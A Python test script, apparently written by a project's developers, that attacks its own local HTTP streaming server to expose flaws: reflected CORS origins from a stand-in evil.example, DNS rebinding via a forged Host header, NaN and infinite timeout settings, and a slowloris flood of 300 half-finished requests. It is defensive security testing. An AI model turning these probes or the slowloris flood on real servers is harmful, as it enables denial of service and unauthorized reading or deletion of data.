"""HTTP Durable Streams front (branch `http`): hostile requests against a default server.

Run: PYTHONPATH=<http worktree> python http_attacks.py
Starts HttpServer on 127.0.0.1 (port 0, no token: the default), then:
 1. CORS: any web page's Origin is reflected with every method allowed, so a page the
    user visits reads, appends to and deletes the local streams (no token by default).
 2. DNS rebinding: a request with Host: evil.example is served as any other.
 3. Config: long_poll_timeout / sse_max_seconds = nan or inf are accepted.
 4. Slowloris: sockets that send half a request line are kept for ever (no header
    timeout, no connection bound outside live reads).
"""
import http.client, math, os, socket, tempfile, time

import sqlstream
from sqlstream.http.server import HttpServer
from sqlstream.http.config import http_settings

d = tempfile.mkdtemp()
path = os.path.join(d, "h.db")
db = sqlstream.open(path)
db.create_stream("private").append(b"secret data")
db.close()

srv = HttpServer(path, "127.0.0.1", 0)
srv.start()
try:
    def req(method, url, headers=None, body=None):
        c = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10)
        c.request(method, url, body=body, headers=headers or {})
        r = c.getresponse()
        data = r.read()
        c.close()
        return r.status, dict(r.getheaders()), data

    evil = {"Origin": "https://evil.example"}
    st, h, _ = req("OPTIONS", "/v1/stream/private", {**evil, "Access-Control-Request-Method": "DELETE"})
    print("1. preflight DELETE from https://evil.example:", st, "allow-origin:", h.get("access-control-allow-origin"),
          "allow-methods:", h.get("access-control-allow-methods"))
    st, h, body = req("GET", "/v1/stream/private?offset=-1", evil)
    print("   GET with Origin evil:", st, "allow-origin:", h.get("access-control-allow-origin"), "body:", body)
    st, h, body = req("GET", "/v1/stream/private?offset=-1", {"Host": "evil.example"})
    print("2. Host: evil.example (DNS rebinding):", st, body)

    for key in ("long_poll_timeout", "sse_max_seconds"):
        for value in (math.nan, math.inf):
            try:
                s = http_settings({key: value})
                print(f"3. {key} = {value}: accepted ->", getattr(s.config, key))
            except Exception as exc:
                print(f"3. {key} = {value}: refused ({type(exc).__name__})")

    socks = []
    for _ in range(300):
        s = socket.create_connection(("127.0.0.1", srv.port))
        s.sendall(b"GET /v1/stream/private HTTP/1.1\r\nHost: x\r\n")  # never finished
        socks.append(s)
    time.sleep(2)
    alive = 0
    for s in socks:
        s.setblocking(False)
        try:
            alive += s.recv(1) != b""
        except BlockingIOError:
            alive += 1  # nothing sent and not closed: still held by the server
    print(f"4. slowloris: {alive} of {len(socks)} half-sent requests still held open by the server after 2 s "
          "(the h11 keep-alive timeout does not apply to a request in progress)")
    for s in socks:
        s.close()
finally:
    srv.stop()

# 3b. what a NaN long_poll_timeout accepted at load does when a client long-polls
from sqlstream.http.app import HttpConfig
srv = HttpServer(path, "127.0.0.1", 0, http_settings({"long_poll_timeout": math.nan}).config)
srv.start()
try:
    c = http.client.HTTPConnection("127.0.0.1", srv.port, timeout=10)
    c.request("GET", "/v1/stream/private?offset=now&live=long-poll")
    r = c.getresponse()
    print("3b. long-poll with long_poll_timeout = nan:", r.status, r.read()[:200])
finally:
    srv.stop()
